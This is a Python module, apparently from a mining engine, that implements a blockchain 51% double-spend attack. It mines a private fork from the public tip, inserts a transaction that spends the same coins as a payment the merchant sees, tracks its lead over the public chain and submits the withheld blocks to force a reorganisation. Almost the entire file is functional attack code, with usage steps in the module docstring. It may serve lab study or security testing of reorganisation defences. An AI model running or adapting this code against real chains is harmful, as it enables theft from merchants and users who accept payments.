"""The 51% double-spend, engine side: a private branch mined from the public tip and held back,
with a transaction that spends the same coins as a payment made on the public chain, released
block by block (submitblock, in order) once it is longer. Over JSON-RPC only, so it works
against any Core-compatible node; the node reorganises to the branch with the most work.

    fork = PrivateFork.start(rpc, payout_script)        # remembers the public tip
    paid = wallet.pay(rpc, merchant, amount, 2)         # the payment the merchant sees
    fork.add_transaction(conflicting_tx, fee_sat)       # the same coins, back to the attacker
    fork.mine_block(); fork.mine_block()                # private, nothing published
    fork.status(rpc)  -> lengths of both branches; fork.release(rpc) when ahead
"""

from __future__ import annotations

import os
import threading
import time
from dataclasses import dataclass

from bitcoin.core import CTransaction, b2lx

from engine.mining.jobs import BlockTemplate, make_job
from engine.mining.kernels import QUICK_KERNEL, chosen_kernel_name, get_kernel, job_params
from engine.primitives.chain import BLOCK_VERSION, MEDIAN_TIME_SPAN, median_time_past
from engine.primitives.params import ConsensusParams
from engine.primitives.pow import NONCE_SPACE, next_work_required
from engine.primitives.subsidy import block_subsidy_sat

SCAN_CHUNK = 1 << 18  # nonces per kernel call: ~10-30 ms, so a stop is heard quickly


class AttackError(Exception):
    """The private branch cannot go on; the message says why."""


@dataclass(frozen=True)
class ForkStatus:
    fork_height: int
    private_blocks: int  # mined on the private branch
    public_blocks: int  # found by everyone else since the fork
    released: bool

    @property
    def lead(self) -> int:
        return self.private_blocks - self.public_blocks


class PrivateFork:
    """A branch built on this machine from the public tip at `start`; thread-safe."""

    def __init__(
        self,
        fork_height: int,
        fork_hash: str,
        bits: int,
        times: list[int],
        params: ConsensusParams,
        payout_script: bytes,
        window_times: dict[int, int] | None = None,
    ):
        self.fork_height, self.fork_hash = fork_height, fork_hash
        self.bits = bits  # the private tip's
        self.times = list(times)  # header times of the last blocks, oldest first
        # height -> time of the blocks a retarget on the private branch looks back to
        self.window_times = dict(window_times or {})
        self.hashes = 0  # hashed on the private branch so far
        self.hashing_s = 0.0  # time spent hashing, so hashes / hashing_s is the attacker's hashrate
        self.params = params
        self.payout_script = payout_script
        self.blocks: list[tuple[str, str]] = []  # (hash, block hex), in order
        self.pending: list[tuple[CTransaction, int]] = []  # for the next private block: (tx, fee)
        self.released = False
        self._lock = threading.Lock()

    @classmethod
    def start(cls, rpc, payout_script: bytes) -> PrivateFork:
        info = rpc.call("getblockchaininfo")
        tip = rpc.call("getblockheader", info["bestblockhash"])
        times: list[int] = []
        header = tip
        while len(times) < MEDIAN_TIME_SPAN:
            times.insert(0, header["time"])
            if "previousblockhash" not in header:
                break
            header = rpc.call("getblockheader", header["previousblockhash"])
        params = ConsensusParams.from_consensus(info.get("consensus"))  # Core's regtest when absent
        window_times = {}
        if not params.no_retargeting:
            # the first retarget past the fork looks back to a public block; later ones to private blocks
            first = tip["height"] - tip["height"] % params.retarget_interval
            if first > 0:
                window_times[first] = rpc.call("getblockheader", rpc.call("getblockhash", first))["time"]
        return cls(tip["height"], tip["hash"], int(tip["bits"], 16), times, params, bytes(payout_script), window_times)

    @property
    def tip_height(self) -> int:
        return self.fork_height + len(self.blocks)

    def add_transaction(self, tx: CTransaction, fee_sat: int) -> None:
        with self._lock:
            self.pending.append((tx, fee_sat))

    def _bits_for(self, height: int, block_time: int) -> int:
        def ancestor_time(h: int) -> int:
            if h not in self.window_times:
                raise AttackError(
                    f"the retarget at height {height} needs block {h}'s time, which this branch did not keep"
                )
            return self.window_times[h]

        return next_work_required(height, self.bits, self.times[-1], block_time, ancestor_time, self.params)

    def template(self, now_s: int | None = None) -> BlockTemplate:
        """The next private block's template, as getblocktemplate would give it on our tip."""
        import time as _time

        height = self.tip_height + 1
        txs = [
            {"data": tx.serialize().hex(), "txid": b2lx(tx.GetTxid()), "hash": b2lx(tx.GetHash())}
            for tx, _ in self.pending
        ]
        median = median_time_past(self.times)
        now = max(int(_time.time() if now_s is None else now_s), median + 1)
        return BlockTemplate.from_rpc(
            {
                "height": height,
                "version": BLOCK_VERSION,
                "previousblockhash": self.blocks[-1][0] if self.blocks else self.fork_hash,
                "bits": f"{self._bits_for(height, now):08x}",
                "curtime": now,
                "mintime": median + 1,
                "coinbasevalue": block_subsidy_sat(height, self.params) + sum(f for _, f in self.pending),
                "transactions": txs,
                "rules": ["csv", "!segwit", "taproot"],
            }
        )

    def mine_block(self, stop: threading.Event | None = None, threads: int = 1, kernel_name: str | None = None) -> str:
        """Hash until the next private block is found (held here, not published); its hash.

        `threads` workers scan with the miner's kernel (the one measured fastest on this CPU, else
        the quick scalar one), each on its own extranonce; Numba releases the GIL, so they scale.
        """
        kernel = get_kernel(kernel_name or chosen_kernel_name() or QUICK_KERNEL)
        stop = stop or threading.Event()
        with self._lock:
            if self.released:
                raise AttackError("the private branch was already released")
            template = self.template()
            found: list = []
            done = threading.Event()
            count_lock = threading.Lock()

            def work() -> None:
                job = make_job(template, self.payout_script, os.urandom(8))
                header = job.header(0)
                params, lanes, start = job_params(header), kernel.new_lanes_buffer(), 0
                while not (done.is_set() or stop.is_set()):
                    if start >= NONCE_SPACE:
                        job = make_job(template, self.payout_script, os.urandom(8))
                        header = job.header(0)
                        params, start = job_params(header), 0
                    nonce, hashes = kernel.search(
                        params, header[:76], template.target, start, start + SCAN_CHUNK, lanes
                    )
                    with count_lock:
                        self.hashes += hashes
                        if nonce is not None and not found:
                            found.append((job, nonce))
                            done.set()
                    start += SCAN_CHUNK

            began = time.perf_counter()
            workers = [
                threading.Thread(target=work, name=f"private-branch-{i}", daemon=True) for i in range(max(1, threads))
            ]
            for w in workers:
                w.start()
            for w in workers:
                w.join()
            self.hashing_s += time.perf_counter() - began
            if not found:
                raise AttackError("stopped")
            job, nonce = found[0]
            block_hash = job.block_hash(nonce)
            self.blocks.append((block_hash, job.block_hex(nonce)))
            self.times.append(job.ntime)
            self.window_times[self.tip_height] = job.ntime
            self.bits = template.bits
            self.pending.clear()
            return block_hash

    @property
    def hashrate_hs(self) -> float:
        """The attacker's measured hashrate on the private branch (0 before any hashing)."""
        return self.hashes / self.hashing_s if self.hashing_s > 0 else 0.0

    def status(self, rpc) -> ForkStatus:
        public_height = int(rpc.call("getblockcount"))
        return ForkStatus(self.fork_height, len(self.blocks), public_height - self.fork_height, self.released)

    def release(self, rpc) -> list[str | None]:
        """submitblock every private block in order; the node's BIP22 answers."""
        with self._lock:
            self.released = True
            return [rpc.call("submitblock", block_hex) for _, block_hex in self.blocks]
